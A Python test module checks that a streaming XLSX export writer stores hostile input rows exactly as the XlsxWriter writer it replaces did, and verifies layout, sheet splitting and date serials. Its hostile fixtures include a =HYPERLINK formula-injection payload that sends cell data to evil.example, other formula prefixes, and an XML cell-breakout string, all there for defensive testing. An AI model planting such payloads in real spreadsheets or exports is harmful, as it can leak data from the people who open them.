"""The streamed workbook read back with openpyxl and compared cell by cell with what the replaced
XlsxWriter writer made of the same hostile rows: formula prefixes, 10 KB and 40 KB texts, control
characters, escape look-alikes, Vietnamese, emoji past Excel's cell limit, huge numbers, and times
before and after Excel's 1900 leap day. And the stream itself: its first bytes before any row is
read, a valid zip at every size, a sheet per 1,048,575 rows."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import xlsxwriter.utility
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from benchmarks.xlsxwriter_legacy import xlsx_write as replaced_write
from hotlines.services.exports.columns import ALL_COLUMNS, COLUMNS
from hotlines.services.exports.xlsx import column_letter, excel_serial, quote_sheet, xlsx_chunks, xlsx_write

from .conftest import read_xlsx

SAIGON = ZoneInfo("Asia/Ho_Chi_Minh")
COLUMNS_ALL = [column for column in ALL_COLUMNS if not column.derived]
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+84 90 123",
    "-2",
    "@SUM(A1:A9)",
    "\tTab đầu dòng",
    "\rCR đầu dòng",
    "\x00NUL \x01\x07\x1b\x1f bell",
    "<r><t>markup</t></r>",
    '<r></is></c><c t="str"><f>1+1</f><v>2</v></c><c><is></r>',
    "_x0041_ stays literal, _X00ff_ too",
    "a" * 10_240,
    "b" * 40_000,
    "😀" * 20_000,  # 40,000 UTF-16 units: cut at 32,767 without splitting one
    " leading",
    "trailing ",
    "line\nbreak\n",
    "Tổng đài “chăm sóc” khách hàng; Công ty CP Dược phẩm Ánh Dương",
    "x & y < z > w \"q\" 'a'",
    "\x1e record separator",
    "in\x1ebetween",
    "\ufffe\uffff non-characters",
    "",
    None,
]
NUMBERS = [0, 1, -1, 2**53 + 1, 2**63 - 1, 10**20, None]


def hostile_rows(count: int) -> list[tuple]:
    """Rows for every column kind, each text column cycling through HOSTILE_TEXTS at its own pace."""
    rows = []
    start = datetime(2026, 1, 31, 17, 30, 5, 123456, tzinfo=UTC)
    for at in range(count):
        row = []
        for index, column in enumerate(COLUMNS_ALL):
            if column.kind == "datetime":
                row.append(None if at % 7 == 0 else start + timedelta(days=at * 3.3, microseconds=at))
            elif column.kind == "integer":
                row.append(NUMBERS[at % len(NUMBERS)])
            elif column.kind == "bool":
                row.append((True, False, None)[at % 3])
            elif column.kind == "status":
                row.append(("P", "D", "", None, "=X")[at % 5])
            elif column.kind == "network":
                row.append(("viettel", "=2+5", "", None)[at % 4])
            else:
                row.append(HOSTILE_TEXTS[(at + index) % len(HOSTILE_TEXTS)])
        rows.append(tuple(row))
    return rows


def cells(data: bytes) -> list[tuple[str, list[list[tuple]]]]:
    """Every sheet's cells as (value, type, number format, bold, fill), as openpyxl reads them."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        (
            sheet.title,
            [
                [(c.value, c.data_type, c.number_format, c.font.b, c.fill.fgColor.rgb) for c in row]
                for row in sheet.iter_rows()
            ],
        )
        for sheet in book.worksheets
    ]


def both(rows, columns, **options) -> tuple[bytes, bytes]:
    old, new = io.BytesIO(), io.BytesIO()
    replaced_write(old, iter(rows), columns, tz=SAIGON, sheet_title="Hotlines", **options)
    xlsx_write(new, iter(rows), columns, tz=SAIGON, sheet_title="Hotlines", **options)
    return old.getvalue(), new.getvalue()


def test_hostile_rows_read_back_cell_for_cell_as_the_replaced_writer_wrote_them():
    old, new = both(hostile_rows(600), COLUMNS_ALL)
    assert cells(new) == cells(old)
    [(_, rows)] = read_xlsx(new)  # no formula anywhere, escapes decoded
    texts = {cell for row in rows[1:] for cell in row if isinstance(cell, str)}
    assert '<r></is></c><c t="str"><f>1+1</f><v>2</v></c><c><is></r>' in texts  # text, not markup
    assert "\x00NUL \x01\x07\x1b\x1f bell" in texts and "_x0041_ stays literal, _X00ff_ too" in texts
    assert "😀" * 16_383 in texts and "b" * 32_767 in texts
    assert " leading" in texts and "trailing " in texts and "a" * 10_240 in texts
    assert not any(text.startswith("'") for text in texts)  # an .xlsx text is never prefixed


def test_the_layout_is_the_replaced_writers():
    old, new = both(hostile_rows(50), COLUMNS_ALL)
    old_sheet, new_sheet = (openpyxl.load_workbook(io.BytesIO(data)).active for data in (old, new))
    assert new_sheet.freeze_panes == old_sheet.freeze_panes == "A2"
    assert new_sheet.auto_filter.ref == old_sheet.auto_filter.ref == "A1:O51"
    assert new_sheet.print_title_rows == old_sheet.print_title_rows
    assert new_sheet.page_setup.orientation == old_sheet.page_setup.orientation == "landscape"
    assert str(new_sheet.page_setup.paperSize) == str(old_sheet.page_setup.paperSize) == "9"  # A4
    assert new_sheet.sheet_properties.pageSetUpPr.fitToPage
    with zipfile.ZipFile(io.BytesIO(new)) as archive:  # openpyxl does not read it: the XML itself
        assert (
            '<ignoredError sqref="A1:XFD1048576" numberStoredAsText="1"/>'
            in archive.read("xl/worksheets/sheet1.xml").decode()
        )

    def widths(sheet):
        # XlsxWriter groups equal neighbours into one <col>: compare column by column.
        found = {}
        for dimension in sheet.column_dimensions.values():
            for at in range(dimension.min, dimension.max + 1):
                found[at] = dimension.width
        return found

    assert widths(new_sheet) == widths(old_sheet)


@pytest.mark.parametrize("count", [0, 1, 2_001])
def test_empty_one_row_and_past_a_batch_match(count):
    old, new = both(hostile_rows(count), COLUMNS_ALL)
    assert cells(new) == cells(old)


def test_more_rows_than_a_sheet_holds_continue_on_new_sheets_as_before():
    columns = [COLUMNS[key] for key in ("hotline", "name")]
    rows = [(f"0{at:09d}", f"Tên {at}") for at in range(25)]
    old, new = both(rows, columns, rows_per_sheet=10)
    assert cells(new) == cells(old)
    assert [title for title, _ in cells(new)] == ["Hotlines", "Hotlines (2)", "Hotlines (3)"]
    assert [sheet.auto_filter.ref for sheet in openpyxl.load_workbook(io.BytesIO(new)).worksheets] == [
        "A1:B11", "A1:B11", "A1:B6"
    ]  # fmt: skip


def test_a_vietnamese_sheet_name_is_quoted_in_its_references():
    columns = [COLUMNS["name"]]
    data = b"".join(xlsx_chunks(iter([("x",)]), columns, tz=SAIGON, sheet_title="Khách hàng's"))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Khách hàng's"
    assert sheet.print_title_rows.replace("$", "") == "1:1"
    assert quote_sheet("Hotlines") == "Hotlines" and quote_sheet("Khách hàng's") == "'Khách hàng''s'"


def test_the_first_bytes_leave_before_any_row_is_read():
    read = []

    def rows():
        read.append(1)
        yield ("0901", "x")

    chunks = xlsx_chunks(rows(), [COLUMNS["hotline"], COLUMNS["name"]], tz=SAIGON, sheet_title="T")
    first = next(chunks)
    assert first.startswith(b"PK") and not read
    data = first + b"".join(chunks)
    assert read and zipfile.ZipFile(io.BytesIO(data)).testzip() is None


def test_progress_is_reported_per_batch_and_the_count_returned():
    seen = []
    handle = io.BytesIO()
    assert (
        xlsx_write(handle, iter([("1",)] * 4_500), [COLUMNS["name"]], tz=SAIGON, sheet_title="T", progress=seen.append)
        == 4_500
    )
    assert seen == [2_000, 4_000, 4_500]


@hypothesis_settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=40), st.text(max_size=5)), max_size=30))
def test_any_text_reads_back_as_the_replaced_writer_wrote_it(rows):
    old, new = both(rows, [COLUMNS["name"], COLUMNS["description"]])
    assert cells(new) == cells(old)


def test_serials_are_xlsxwriters_around_the_1900_leap_day():
    for moment in (
        datetime(1900, 1, 1),
        datetime(1900, 2, 28, 23, 59),
        datetime(1900, 3, 1),
        datetime(2026, 2, 1, 0, 30, 5, 999_999),
    ):
        assert excel_serial(moment) == xlsxwriter.utility._datetime_to_excel_datetime(moment, False, False)
    assert [column_letter(at) for at in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]
